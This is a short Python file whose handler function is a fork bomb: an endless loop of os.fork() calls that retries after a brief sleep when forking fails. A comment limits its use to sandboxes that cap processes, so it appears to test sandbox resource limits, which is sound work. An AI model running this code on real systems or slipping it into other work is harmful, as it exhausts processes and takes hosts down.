# Forks without end. Only for sandboxes that limit processes.
import os
import time


def handler(event, context):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
